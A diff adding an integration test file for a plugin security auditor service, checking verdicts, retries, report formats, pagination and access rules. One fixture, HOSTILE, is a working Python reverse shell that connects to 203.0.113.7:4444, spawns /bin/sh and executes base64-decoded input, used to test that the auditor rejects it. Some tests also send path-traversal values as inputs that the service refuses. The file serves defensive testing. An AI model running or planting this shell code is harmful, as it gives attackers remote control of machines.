@@ -1,0 +1,445 @@
+"""Submitted versions on their way through the auditor, with the registry's wire replaced."""
+
+import asyncio
+import hashlib
+import json
+import sys
+from collections.abc import AsyncIterator, Callable
+from typing import Any
+from uuid import uuid4
+
+import httpx
+import pytest
+from heimnetz_auditor import store
+from heimnetz_auditor.api import audits
+from heimnetz_auditor.auditing import Auditing
+from heimnetz_auditor.consumers import SUBSCRIPTIONS, VersionSubmitted
+from heimnetz_auditor.examining import Examiner
+from heimnetz_auditor.policy import load_policy
+from heimnetz_common.consuming import Consumers
+from heimnetz_common.database import Database
+from heimnetz_common.events import encode
+from heimnetz_common.http import ServiceClient
+from heimnetz_common.outbox import Relay
+from heimnetz_common.service import Service
+from heimnetz_common.testing import KeyRing, eventually, fresh_database, running
+from heimnetz_common.web import create_app
+from heimnetz_manifest import pack
+
+MANIFEST = """\
+manifest: 1
+name: {plugin}
+version: 1.0.0
+title: A plugin
+summary: Adds two numbers.
+licence: Apache-2.0
+authors: [{{name: Anna}}]
+kind: job
+runtime: python
+entry_point: adder:run
+triggers: {{http: true}}
+"""
+HARMLESS = '''"""Adds two numbers."""
+
+
+def run(input, context):
+    return {"sum": input["a"] + input["b"]}
+'''
+HOSTILE = '''import base64
+import os
+import socket
+import subprocess
+
+
+def run(input, context):
+    s = socket.socket()
+    s.connect(("203.0.113.7", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+    exec(base64.b64decode(input["code"]))
+'''
+
+Package = Callable[[str, str], bytes]
+
+
+@pytest.fixture
+def package(tmp_path: Any) -> Package:
+    def make(plugin: str, source: str) -> bytes:
+        folder = tmp_path / plugin
+        folder.mkdir()
+        (folder / "plugin.yaml").write_text(MANIFEST.format(plugin=plugin))
+        (folder / "adder.py").write_text(source)
+        (folder / "README.md").write_text("# A plugin\n")
+        return pack(folder)
+
+    return make
+
+
+class House:
+    """The auditor's parts around a registry that holds one version of each plugin."""
+
+    def __init__(self, database: Database, key_ring: KeyRing) -> None:
+        self.database = database
+        self.packages: dict[str, bytes] = {}
+        self.status = 200
+        self.registry = ServiceClient(
+            "http://registry",
+            audience="registry",
+            keys=key_ring.keys("auditor"),
+            transport=httpx.MockTransport(self._answer),
+        )
+        self.auditing = self.with_examiner(Examiner(60, 512 * 1024 * 1024))
+
+    def with_examiner(self, examiner: Examiner) -> Auditing:
+        return Auditing(self.database, self.registry, examiner, load_policy(None))
+
+    def _answer(self, request: httpx.Request) -> httpx.Response:
+        assert request.headers["authorization"].startswith("Bearer ")
+        _, _, _, plugin, _, version, *rest = request.url.path.split("/")
+        if self.status != 200:
+            return httpx.Response(self.status, json={"detail": "not now"})
+        if plugin not in self.packages or version != "1.0.0":
+            return httpx.Response(404, json={"detail": "no such version"})
+        body = self.packages[plugin]
+        if rest == ["package"]:
+            return httpx.Response(200, content=body)
+        digest = hashlib.sha256(body).hexdigest()
+        return httpx.Response(200, json={"sha256": digest, "publisher": "anna"})
+
+    async def submit(self, plugin: str, body: bytes, **change: Any) -> str:
+        self.packages[plugin] = body
+        data = VersionSubmitted(
+            **{
+                "plugin": plugin,
+                "version": "1.0.0",
+                "sha256": hashlib.sha256(body).hexdigest(),
+                "publisher": "anna",
+            }
+            | change
+        )
+        _, document = encode(data, service="registry", subject=plugin, traceparent=None)
+        consumers = Consumers(self.database, None, "auditor", SUBSCRIPTIONS)  # type: ignore[arg-type]
+        return await consumers.deliver(SUBSCRIPTIONS[0], document, 1)
+
+    async def announced(self) -> list[dict[str, Any]]:
+        async with self.database.connection() as connection:
+            rows = await connection.fetch("SELECT document FROM outbox ORDER BY id")
+        return [json.loads(row["document"]) for row in rows]
+
+    async def waiting(self) -> int:
+        async with self.database.connection() as connection:
+            count, _ = await store.measure_requests(connection)
+        return count
+
+
+@pytest.fixture
+async def house(postgres_url: str, key_ring: KeyRing) -> AsyncIterator[House]:
+    async with fresh_database(postgres_url, "auditor") as database:
+        house = House(database, key_ring)
+        yield house
+        await house.registry.close()
+
+
+async def test_a_harmless_version_is_approved_and_announced(house: House, package: Package) -> None:
+    body = package("adder", HARMLESS)
+    await house.submit("adder", body)
+
+    assert await house.auditing.work() is True
+
+    [event] = await house.announced()
+    assert event["type"] == "heimnetz.version.audited.v1"
+    assert event["subject"] == "adder/1.0.0"
+    assert event["data"]["verdict"] == "approve"
+    assert event["data"]["grade"] in "AB"
+    assert event["data"]["sha256"] == hashlib.sha256(body).hexdigest()
+    assert await house.waiting() == 0
+
+
+async def test_a_reverse_shell_is_not_approved(house: House, package: Package) -> None:
+    await house.submit("shell", package("shell", HOSTILE))
+
+    await house.auditing.work()
+
+    [event] = await house.announced()
+    assert event["data"]["verdict"] in ("reject", "review")
+    assert event["data"]["counts"]["high"] + event["data"]["counts"]["critical"] > 0
+
+
+async def test_the_same_submission_twice_is_audited_once(house: House, package: Package) -> None:
+    body = package("adder", HARMLESS)
+    await house.submit("adder", body)
+    await house.submit("adder", body)
+
+    assert await house.auditing.work() is True
+    assert await house.auditing.work() is False
+    assert len(await house.announced()) == 1
+
+
+async def test_a_second_audit_by_the_same_engine_replaces_the_first(
+    house: House, package: Package
+) -> None:
+    body = package("adder", HARMLESS)
+    for _ in range(2):
+        await house.submit("adder", body)
+        await house.auditing.work()
+
+    async with house.database.connection() as connection:
+        assert await connection.fetchval("SELECT count(*) FROM audits") == 1
+        assert await connection.fetchval("SELECT count(*) FROM reports") == 5
+    assert len(await house.announced()) == 2
+
+
+async def test_bytes_that_were_not_submitted_are_for_a_person(
+    house: House, package: Package
+) -> None:
+    await house.submit("adder", package("adder", HARMLESS), sha256="0" * 64)
+
+    await house.auditing.work()
+
+    [event] = await house.announced()
+    assert event["data"]["verdict"] == "review"
+    assert event["data"]["grade"] == "unknown"
+    assert "not those that were submitted" in event["data"]["reasons"][0]
+
+
+async def test_a_package_that_cannot_be_read_is_for_a_person(house: House) -> None:
+    await house.submit("broken", b"\x1f\x8b not a package")
+
+    await house.auditing.work()
+
+    [event] = await house.announced()
+    assert event["data"]["verdict"] == "review"
+    assert "cannot be read" in event["data"]["reasons"][0]
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["import time; time.sleep(60)", "import os; os.abort()", "print('approve')"],
+)
+async def test_an_engine_that_fails_is_for_a_person_and_the_report_says_why(
+    house: House, package: Package, script: str
+) -> None:
+    await house.submit("adder", package("adder", HARMLESS))
+    examiner = Examiner(1, 512 * 1024 * 1024, (sys.executable, "-c", script))
+
+    await house.with_examiner(examiner).work()
+
+    [event] = await house.announced()
+    assert event["data"]["verdict"] == "review"
+    async with house.database.connection() as connection:
+        report = json.loads(await store.get_report(connection, "adder", "1.0.0", "json"))
+    assert report["unknowns"][0]["check"] == "audit"
+
+
+async def test_a_registry_that_is_away_only_delays_the_audit(
+    house: House, package: Package
+) -> None:
+    await house.submit("adder", package("adder", HARMLESS))
+    house.status = 503
+
+    for _ in range(5):
+        await house.auditing.work()
+        async with house.database.transaction() as connection:
+            await connection.execute("UPDATE requests SET due_at = now()")
+    assert await house.announced() == []
+
+    house.status = 200
+    await house.auditing.work()
+    assert len(await house.announced()) == 1
+
+
+async def test_a_version_that_is_gone_needs_no_audit(house: House, package: Package) -> None:
+    await house.submit("adder", package("adder", HARMLESS))
+    house.packages.clear()
+
+    await house.auditing.work()
+
+    assert await house.waiting() == 0
+    assert await house.announced() == []
+
+
+async def test_a_version_that_kills_its_auditor_is_given_to_a_person(
+    house: House, package: Package
+) -> None:
+    await house.submit("killer", package("killer", HARMLESS))
+    for _ in range(3):
+        async with house.database.transaction() as connection:
+            assert await store.take_request(connection, lease_seconds=-1) is not None
+
+    await house.auditing.work()
+
+    [event] = await house.announced()
+    assert event["data"]["verdict"] == "review"
+    assert "did not survive" in event["data"]["reasons"][0]
+
+
+async def test_two_auditors_do_not_take_the_same_version(house: House, package: Package) -> None:
+    await house.submit("adder", package("adder", HARMLESS))
+
+    await asyncio.gather(house.auditing.work(), house.auditing.work())
+
+    assert len(await house.announced()) == 1
+
+
+async def test_a_submission_travels_over_the_bus_and_its_verdict_back(
+    house: House, package: Package, bus: Any
+) -> None:
+    plugin = f"adder-{uuid4().hex[:8]}"
+    body = package(plugin, HARMLESS)
+    house.packages[plugin] = body
+    data = VersionSubmitted(
+        plugin=plugin,
+        version="1.0.0",
+        sha256=hashlib.sha256(body).hexdigest(),
+        publisher="anna",
+    )
+    traceparent = f"00-{uuid4().hex}-{'1' * 16}-01"
+    event_id, document = encode(data, service="registry", subject=plugin, traceparent=traceparent)
+    consumers = Consumers(house.database, bus, f"auditor{uuid4().hex[:8]}", SUBSCRIPTIONS)
+    relay = Relay(house.database, bus)
+    works = [asyncio.create_task(work.run()) for work in (consumers, relay, house.auditing)]
+
+    async def is_announced() -> Any:
+        found = [event for event in await house.announced() if event["data"]["plugin"] == plugin]
+        async with house.database.connection() as connection:
+            unsent = await connection.fetchval("SELECT count(*) FROM outbox WHERE sent_at IS NULL")
+        return found and not unsent and found[0]
+
+    try:
+        await bus.publish(VersionSubmitted.type(), event_id, document)
+        event = await eventually(is_announced, seconds=60)
+    finally:
+        for work in works:
+            work.cancel()
+        await asyncio.gather(*works, return_exceptions=True)
+
+    assert event["traceparent"].split("-")[1] == traceparent.split("-")[1]
+
+
+@pytest.fixture
+async def client(house: House, key_ring: KeyRing) -> AsyncIterator[httpx.AsyncClient]:
+    service = Service("auditor", keys=key_ring.keys("auditor"))
+    app = create_app(service, [audits.routes(house.database, house.registry)], title="auditor")
+    async with running(app) as client:
+        yield client
+
+
+@pytest.mark.parametrize(
+    ("form", "media_type", "beginning"),
+    [
+        ("json", "application/json", "{"),
+        ("sarif", "application/sarif+json", "{"),
+        ("markdown", "text/markdown; charset=utf-8", "#"),
+        ("text", "text/plain; charset=utf-8", ""),
+    ],
+)
+async def test_a_report_is_served_in_each_format(
+    house: House,
+    client: httpx.AsyncClient,
+    package: Package,
+    key_ring: KeyRing,
+    form: str,
+    media_type: str,
+    beginning: str,
+) -> None:
+    await house.submit("adder", package("adder", HARMLESS))
+    await house.auditing.work()
+
+    response = await client.get(
+        "/v1/audits/adder/1.0.0",
+        params={"format": form},
+        headers=key_ring.user("auditor", "viewer"),
+    )
+
+    assert response.status_code == 200
+    assert response.headers["content-type"] == media_type
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.text.startswith(beginning)
+
+
+async def test_a_version_without_an_audit_is_not_found(
+    client: httpx.AsyncClient, key_ring: KeyRing
+) -> None:
+    response = await client.get(
+        "/v1/audits/adder/1.0.0", headers=key_ring.user("auditor", "viewer")
+    )
+
+    assert response.status_code == 404
+    assert response.json()["type"].endswith("/audit-not-found")
+
+
+async def test_pages_of_audits_follow_each_other(
+    house: House, client: httpx.AsyncClient, package: Package, key_ring: KeyRing
+) -> None:
+    body = package("adder", HARMLESS)
+    house.auditing = house.with_examiner(
+        Examiner(20, 512 * 1024 * 1024, (sys.executable, "-c", "print(1)"))
+    )
+    for number in range(5):
+        await house.submit(f"p{number}", body)
+        await house.auditing.work()
+
+    seen: list[str] = []
+    params: dict[str, Any] = {"limit": 2}
+    while True:
+        response = await client.get(
+            "/v1/audits", params=params, headers=key_ring.user("auditor", "viewer")
+        )
+        page = response.json()
+        seen += [entry["plugin"] for entry in page["items"]]
+        if page["next_cursor"] is None:
+            break
+        params["cursor"] = page["next_cursor"]
+
+    assert seen == ["p4", "p3", "p2", "p1", "p0"]
+
+
+async def test_an_auditor_may_ask_for_another_audit_and_a_viewer_may_not(
+    house: House, client: httpx.AsyncClient, package: Package, key_ring: KeyRing
+) -> None:
+    house.packages["adder"] = package("adder", HARMLESS)
+    wish = {"plugin": "adder", "version": "1.0.0"}
+
+    refused = await client.post(
+        "/v1/audits", json=wish, headers=key_ring.user("auditor", "viewer")
+    )
+    accepted = await client.post(
+        "/v1/audits", json=wish, headers=key_ring.user("auditor", "auditor")
+    )
+
+    assert refused.status_code == 403
+    assert accepted.status_code == 202
+    assert await house.waiting() == 1
+
+
+async def test_an_audit_of_an_unknown_version_is_not_found(
+    client: httpx.AsyncClient, key_ring: KeyRing
+) -> None:
+    response = await client.post(
+        "/v1/audits",
+        json={"plugin": "nobody", "version": "1.0.0"},
+        headers=key_ring.user("auditor", "owner"),
+    )
+
+    assert response.status_code == 404
+
+
+@pytest.mark.parametrize(
+    "wish",
+    [
+        {"plugin": "../registry", "version": "1.0.0"},
+        {"plugin": "a", "version": "1.0.0/../../setup"},
+        {"plugin": "a", "version": "1.0.0", "extra": 1},
+        {"plugin": "a"},
+        [],
+    ],
+)
+async def test_a_wish_that_makes_no_sense_is_refused(
+    client: httpx.AsyncClient, key_ring: KeyRing, wish: Any
+) -> None:
+    response = await client.post(
+        "/v1/audits", json=wish, headers=key_ring.user("auditor", "owner")
+    )
+
+    assert response.status_code == 422
